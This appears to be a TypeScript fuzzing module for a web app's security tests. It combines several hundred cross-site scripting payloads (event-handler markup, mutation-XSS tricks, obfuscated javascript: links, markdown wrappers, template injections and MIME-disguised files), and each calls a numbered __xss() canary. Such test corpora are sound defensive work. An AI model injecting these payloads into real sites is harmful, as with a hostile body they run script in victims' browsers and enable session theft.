/** What a payload does if it runs: it calls what the journey listens to, with its own number. */
type Code = (number: number) => string;

const call: Code = (number) => `__xss(${number})`;

/** Markup that runs something without anybody's help, each by another part of the browser. */
const MARKUP: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT>`,
  (run) => `<script/x>${run}</script/y>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src='x' onerror='${run}'>`,
  (run) => `<IMG/SRC="x"/ONERROR="${run}">`,
  (run) => `<img src=x:x onerror\n=\n${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload="${run}"/>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<x contenteditable autofocus onfocus=${run}>x</x>`,
  (run) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>x</b>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<form><button formaction="javascript:${run}" autofocus>x</button></form>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<a href="javascript:${run}" autofocus>x</a>`,
];

const entities = (text: string) =>
  Array.from(text, (char) => `&#x${char.codePointAt(0)?.toString(16)};`).join('');

/** What markup may have to break out of, or be hidden in, before a browser reads it as such. */
const PLACES: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `--></style></script></title></textarea>${markup}`,
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => encodeURIComponent(markup),
  (markup) => markup.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (markup) => markup.replaceAll('<', '\\u003c'),
  // Markdown.
  (markup) => `\n\n${markup}\n\n`,
  (markup) => `> ${markup}`,
  (markup) => `# ${markup}`,
  (markup) => `| a |\n|---|\n| ${markup} |`,
  (markup) => `[${markup}](https://example.com)`,
  (markup) => `\`\`\`${markup}\nx\n\`\`\``,
];

/** Addresses that are programs, written as browsers forgive. */
const ADDRESSES: readonly ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `&#x6A;avascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `javascript:%0a${run}`,
  (run) => `javascript://example.com/%0a${run}`,
  (run) => `${entities('javascript:')}${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>opener.${run}</script>`,
  (run) => `data:image/svg+xml,<svg onload=${run}>`,
  (run) => `blob:https://example.com/${run}`,
];

const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][y]\n\n[y]: ${address}`,
  (address) => `[x](https://example.com "${address}")`,
  (address) => `[![x](${address})](${address})`,
];

/** What other kinds of pages would run. */
const TEMPLATES: readonly ((run: string) => string)[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `'-${run}-'`,
  (run) => `";${run};//`,
  (run) => `</script><script>${run}//`,
  (run) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
];

const crossed = <A, B>(as: readonly A[], bs: readonly B[]) =>
  as.flatMap((a) => bs.map((b) => [a, b] as const));

/** Some hundreds of texts that run in a page which takes them for anything but text; each names its number. */
export const PAYLOADS: readonly string[] = [
  ...crossed(MARKUP, PLACES).map(
    ([markup, place]) =>
      (run: string) =>
        place(markup(run)),
  ),
  ...crossed(ADDRESSES, LINKS).map(
    ([address, link]) =>
      (run: string) =>
        link(address(run)),
  ),
  ...TEMPLATES,
].map((make, number) => make(call(number)));

/** Those that fit into a line of so many characters, as many as wanted and of every kind. */
export function linesOf(most: number, count: number): string[] {
  const lines = PAYLOADS.map((payload) => payload.replace(/\s+/g, ' ').trim()).filter(
    (line) => line.length <= most,
  );
  const step = Math.max(1, Math.floor(lines.length / count));
  return lines.filter((_, index) => index % step === 0).slice(0, count);
}

/** Files that run something where a browser shows them as what they say they are; their number is 9000 and on. */
export const FILES: readonly { name: string; type: string; content: string }[] = [
  { name: 'page.html', type: 'text/html', content: '<!doctype html><script>__xss(9000)</script>' },
  {
    name: 'page.xhtml',
    type: 'application/xhtml+xml',
    content: '<html xmlns="http://www.w3.org/1999/xhtml"><script>__xss(9001)</script></html>',
  },
  {
    name: 'drawing.svg',
    type: 'image/svg+xml',
    content:
      '<svg xmlns="http://www.w3.org/2000/svg" onload="__xss(9002)"><script>__xss(9003)</script></svg>',
  },
  {
    name: 'data.xml',
    type: 'text/xml',
    content:
      '<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>__xss(9004)</h:script></a>',
  },
  { name: 'program.js', type: 'text/javascript', content: '__xss(9005)' },
  { name: 'photo.png', type: 'image/png', content: '<script>__xss(9006)</script>' },
  {
    name: 'mail.mht',
    type: 'multipart/related',
    content: 'Content-Type: text/html\r\n\r\n<script>__xss(9007)</script>',
  },
  { name: 'noname', type: '', content: '<html><body onload=__xss(9008)>' },
];
